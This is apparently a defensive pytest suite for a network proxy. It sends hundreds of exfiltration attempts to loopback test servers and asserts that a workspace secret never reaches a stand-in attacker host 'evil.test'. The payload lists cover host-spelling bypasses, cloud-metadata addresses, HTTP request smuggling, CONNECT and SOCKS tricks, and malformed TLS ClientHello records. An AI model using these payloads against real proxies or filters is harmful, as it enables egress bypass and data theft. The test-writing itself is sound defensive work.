"""Tries to get data out to a host that the user has not allowed, through the proxy of a command.

Two real servers listen on the loopback interface: one of a host that is allowed, one of an attacker. Every name leads
to this machine, so that nothing but crow's checks keeps a request from the attacker. No try may bring the secret to
either of them: not even the allowed host may get it in the name of another.
"""

from __future__ import annotations

import pytest

from tests.tools.network.servers import Client, Server, hello, proxying, record, serving

SECRET = b"the-secret-of-the-workspace"

PLACES = (
    *("evil.test", "EVIL.test", "evil.test.", "evil.test..", ".evil.test", "www.evil.test", "evil.test%20",),
    *("good.test@evil.test", "good.test:x@evil.test", "evil.test@good.test", "good.test%40evil.test",),
    *("@evil.test", "evil.test#good.test", "evil.test?good.test", "evil.test/good.test",),
    *("evil.test\\good.test", "good.test\\.evil.test", "good.test%00.evil.test", "evil.test%00good.test",),
    *("evil.test\x00good.test", "good.test\x00evil.test", "good.test%0d%0aevil", "good.test\revil.test",),
    *("good.test\tevil.test", "good.test evil.test", "good.test,evil.test", "good.test;evil.test",),
    *("good.test.evil.test", "evilgood.test", "xgood.test", "good.testx", "sub.good.test", "good", "test",),
    *("good.test-evil", "*.test", "*", "good.*", "good%2etest.evil.test", "evil%2etest", "evil\u3002test",),
    *("\uff45vil.test", "\u24d4vil.test", "g\u043e\u043ed.test", "xn--gd-fmab.test", "good.te\xdft",),
    *("good\xad.test", "good.test\u200b", "g\xf6\xf6d.test", "127.0.0.1", "127.1", "127.0.1", "2130706433",),
    *("0x7f000001", "0x7f.0.0.1", "0x7f.1", "017700000001", "0177.0.0.1", "127.0.0.1.", "127.000.000.001",),
    *("0177.0x0.0.1", "00000177.0.0.1", "127.0.0.256", "127.0.0.1.evil.test", "[::1]", "[0:0:0:0:0:0:0:1]",),
    *("[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "::1", "[::1%25lo]",),
    *("[::1%lo]", "[fe80::1%25eth0]", "[::]", "0.0.0.0", "0", "[::1", "::1]", "[evil.test]", "[v1.x]",),
    *("localhost", "LOCALHOST", "localhost.", "localhost.localdomain", "ip6-localhost", "169.254.169.254",),
    *("0xA9FEA9FE", "10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1", "metadata.google.internal",),
    *("host.docker.internal", "",),
)  # fmt: skip
"""How an attacker may write a host that is not the allowed one."""

FORMS = (
    "CONNECT {place}:{evil} HTTP/1.1\r\nHost: {place}:{evil}\r\n\r\n{secret}",
    "CONNECT {place}:{evil} HTTP/1.1\r\nHost: good.test:{good}\r\nX: {secret}\r\n\r\n",
    "GET http://{place}:{evil}/{secret} HTTP/1.1\r\nHost: {place}:{evil}\r\n\r\n",
    "GET http://{place}:{evil}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET http://good.test:{good}/{secret} HTTP/1.1\r\nHost: {place}:{evil}\r\n\r\n",
    "CONNECT good.test:{good} HTTP/1.1\r\nHost: {place}:{evil}\r\n\r\n{secret}",
    "GET /{secret} HTTP/1.1\r\nHost: {place}:{evil}\r\n\r\n",
    "POST http://good.test:{good}@{place}:{evil}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
)
"""What an attacker may send with such a host."""

ALLOWED = "GET http://good.test:{good}/ HTTP/1.1\r\nHost: good.test:{good}\r\n"
CHUNKS = "Transfer-Encoding: chunked\r\n"
HIDDEN = "GET /{secret} HTTP/1.1\r\nHost: evil.test\r\n\r\n"

SMUGGLED = (
    ALLOWED + "\r\n" + HIDDEN,
    ALLOWED + "\r\nGET http://evil.test:{evil}/{secret} HTTP/1.1\r\nHost: evil.test:{evil}\r\n\r\n",
    ALLOWED + "\r\nCONNECT evil.test:{evil} HTTP/1.1\r\nHost: evil.test:{evil}\r\n\r\n{secret}",
    ALLOWED + "\r\nGET http://good.test:{good}/{secret} HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ALLOWED + "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding: chunked\r\nContent-Length: 90\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length: 0\r\nContent-Length: 90\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length: 0, 90\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length: +0\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length: -1\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length: 0x0\r\n\r\n" + HIDDEN,
    ALLOWED + "Content-Length : 0\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding: identity\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + " Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    ALLOWED + "X: y\r\n Host: {secret}.evil.test\r\nHost: {secret}\r\n\r\n",
    ALLOWED + "Host: evil.test\r\nX: {secret}\r\n\r\n",
    ALLOWED + "host : evil.test\r\nX: {secret}\r\n\r\n",
    ALLOWED + "X: a\0b {secret}\r\n\r\n",
    ALLOWED + "X: a\rHost: evil.test {secret}\r\n\r\n",
    ALLOWED + "X\0: {secret}\r\n\r\n",
    ALLOWED + ": {secret}\r\n\r\n",
    ALLOWED + CHUNKS + "\r\n0\r\n" + HIDDEN,
    ALLOWED + CHUNKS + "\r\n0;a={secret}\r\n\r\n" + HIDDEN,
    ALLOWED + CHUNKS + "\r\n-1\r\n" + HIDDEN,
    ALLOWED + CHUNKS + "\r\n0x0\r\n\r\n" + HIDDEN,
    ALLOWED + CHUNKS + "\r\n0\r\nHost: evil.test\r\nX: {secret}\r\n\r\n",
    ALLOWED + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {secret}\r\n\r\n",
    ALLOWED + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n{secret}",
    ALLOWED + "Connection: close, X-Secret\r\nX-Secret: {secret}\r\n\r\n",
    ALLOWED + "Proxy-Authorization: Basic {secret}\r\n\r\n",
    ALLOWED + "Proxy-Connection: {secret}\r\nTE: {secret}\r\n\r\n",
    ALLOWED + "Expect: {secret}\r\n\r\n",
    "GET http://good.test:{good}\r\nHost: evil.test/ HTTP/1.1\r\nX: {secret}\r\n\r\n",
    "GET http://good.test:{good}/{secret} HTTP/1.1\r\n\r\n",
    "GET http://good.test:{good}/{secret} HTTP/1.0\r\n\r\n",
    "GET http://good.test:{good}/{secret} HTTP/0.9\r\n\r\n",
    "GET http://good.test:{good}/{secret}\r\n\r\n",
    "GET http://good.test:{good}/{secret} HTTP/2.0\r\nHost: good.test:{good}\r\n\r\n",
    "GET http://good.test:{good}/\t{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET  http://good.test:{good}/{secret}  HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET http://good.test:{good}/#{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET http://good.test:{good}?{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET //good.test:{good}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET https://good.test:{good}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET ftp://good.test:{good}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET http:good.test:{good}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET http:///good.test:{good}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "GET http:\\\\good.test:{good}\\{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "TRACE http://good.test:{good}/{secret} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n",
    "CONNECT http://good.test:{good}/ HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n{secret}",
    "CONNECT good.test HTTP/1.1\r\nHost: good.test\r\n\r\n{secret}",
    "CONNECT good.test: HTTP/1.1\r\nHost: good.test\r\n\r\n{secret}",
    "CONNECT good.test:{evil} HTTP/1.1\r\nHost: good.test:{evil}\r\n\r\n{secret}",
    "CONNECT good.test:+{good} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n{secret}",
    "CONNECT good.test:99999 HTTP/1.1\r\nHost: good.test:99999\r\n\r\n{secret}",
    "CONNECT good.test:{good}:{evil} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n{secret}",
    "CONNECT good.test:{good} HTTP/1.1\r\nHost: good.test:{good}\r\nContent-Length: 27\r\n\r\n{secret}",
    "CONNECT good.test:{good} HTTP/1.1\r\nHost: good.test:{good}\r\n" + CHUNKS + "\r\n1b\r\n{secret}\r\n0\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{secret}",
    "OPTIONS * HTTP/1.1\r\nHost: good.test:{good}\r\nX: {secret}\r\n\r\n",
    "\x04\x01\x00\x50\x7f\x00\x00\x01{secret}\0",
    "\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x00\x50{secret}",
    "EHLO evil.test\r\n{secret}\r\n",
)  # fmt: skip
"""Requests to the allowed host with something behind them, or that are not what they seem."""

NAME = b"good.test"
EARLY = (
    SECRET,
    b"SSH-2.0-" + SECRET + b"\r\n",
    b"GET /" + SECRET + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"\x80\x2e\x01\x03\x01" + SECRET,
    record(SECRET, kind=23),
    record(SECRET, kind=20),
    record(SECRET, kind=21),
    record(SECRET, kind=24),
    record(SECRET, kind=99),
    record(b"\x02" + SECRET),
    record(hello(b"evil.test", secret=SECRET)),
    record(hello(b"GOOD.TEST.", secret=SECRET)),
    record(hello(b"good.test.", secret=SECRET)),
    record(hello(b"good.test\0", secret=SECRET)),
    record(hello(b"good.test\0.evil.test", secret=SECRET)),
    record(hello(b"evil.test\0good.test", secret=SECRET)),
    record(hello(b"sub.good.test", secret=SECRET)),
    record(hello(b"good.test.evil.test", secret=SECRET)),
    record(hello(b"good.test ", secret=SECRET)),
    record(hello(b"", secret=SECRET)),
    record(hello(secret=SECRET)),
    record(hello(NAME, b"evil.test", secret=SECRET)),
    record(hello(b"evil.test", NAME, secret=SECRET)),
    record(hello(NAME, kind=1, secret=SECRET)),
    record(hello(NAME, extensions=b"\0\0" + (14).to_bytes(2) + b"\0\x0c\0\0\x09evil.test", secret=SECRET)),
    record(hello(NAME, extensions=b"\xfe\x0d\0\x04abcd", secret=SECRET)),
    record(hello(NAME, secret=SECRET) + b"more"),
    record(hello(NAME, secret=SECRET)[:-1]) + record(b"xx"),
    record(hello(NAME, secret=SECRET)[:40]) + record(SECRET, kind=23),
    record(b"\x01\x00\xff\xff" + SECRET) * 4,
    record(b"\x01\xff\xff\xff" + SECRET),
    record(b"\x01\x00\x00\x02\x03\x03") + SECRET,
    bytes([22, 2, 0]) + b"\x00\x20" + SECRET.ljust(32),
    bytes([22, 3, 1]) + b"\xff\xff" + SECRET,
    b"".join(record(bytes([byte])) for byte in hello(b"evil.test", secret=SECRET)),
)
"""What an attacker may send first in a tunnel to the allowed host."""

FIRST = record(hello(NAME))
LATER = (
    record(hello(b"evil.test", secret=SECRET)),
    record(b"\1", kind=20) + record(hello(b"evil.test", secret=SECRET)),
    record(b"early data", kind=23) + record(hello(b"evil.test", secret=SECRET)),
    b"".join(record(bytes([byte])) for byte in hello(b"evil.test", secret=SECRET)),
    record(hello(b"evil.test", secret=SECRET)[:6]) + record(hello(b"evil.test", secret=SECRET)[6:]),
    record(hello(NAME, extensions=b"\xfe\x0d\0\x04abcd", secret=SECRET)),
    record(hello(secret=SECRET)),
    record(hello(b"evil.test", secret=SECRET)[:50]) + record(SECRET, kind=23),
    SECRET,
    record(b"") + record(hello(b"evil.test", secret=SECRET)),
)
"""What an attacker may send behind a ClientHello that is in order, as after a HelloRetryRequest."""


def filled(text: str, good: Server, evil: Server, place: str = "") -> bytes:
    for name, value in (("place", place), ("good", good.port), ("evil", evil.port), ("secret", SECRET.decode())):
        text = text.replace("{" + name + "}", str(value))
    return text.encode("utf-8", "surrogateescape")


async def assert_nothing_gets_out(client: Client, good: Server, evil: Server, *pieces: bytes) -> None:
    await client.send(*pieces)
    assert evil.received == [], pieces
    assert SECRET not in b"".join(good.received), pieces
    assert b"evil" not in b"".join(good.received), pieces


@pytest.mark.long
@pytest.mark.parametrize("form", FORMS)
async def test_no_spelling_of_a_host_leads_to_another_one(form: str) -> None:
    async with serving() as good, serving() as evil, proxying([f"network(good.test:{good.port})"]) as client:
        for place in PLACES:
            await assert_nothing_gets_out(client, good, evil, filled(form, good, evil, place))


async def test_no_request_hides_another_one() -> None:
    async with serving() as good, serving() as evil, proxying([f"network(good.test:{good.port})"]) as client:
        for text in SMUGGLED:
            await assert_nothing_gets_out(client, good, evil, filled(text, good, evil))


async def test_a_tunnel_carries_only_tls_to_the_host_that_it_names() -> None:
    async with serving() as good, serving() as evil, proxying([f"network(good.test:{good.port})"]) as client:
        connect = filled("CONNECT good.test:{good} HTTP/1.1\r\nHost: good.test:{good}\r\n\r\n", good, evil)
        for first in EARLY:
            await assert_nothing_gets_out(client, good, evil, connect + first)
            await assert_nothing_gets_out(client, good, evil, connect, first)
        for later in LATER:
            await assert_nothing_gets_out(client, good, evil, connect, FIRST, later)
            await assert_nothing_gets_out(client, good, evil, connect, FIRST + later)


@pytest.mark.parametrize("form", FORMS[2:3] + FORMS[4:5])
async def test_the_same_requests_arrive_where_they_are_allowed(form: str) -> None:
    async with serving() as good, serving() as evil, proxying(["network(*:*)"]) as client:
        place = "evil.test" if "GET http://{place}" in form else "good.test"
        await client.send(filled(form.replace("{evil}", "{good}"), good, evil, place))
        assert SECRET in b"".join(good.received)


def test_there_are_hundreds_of_tries() -> None:
    assert len(PLACES) * len(FORMS) + len(SMUGGLED) + len(EARLY) + len(LATER) >= 300
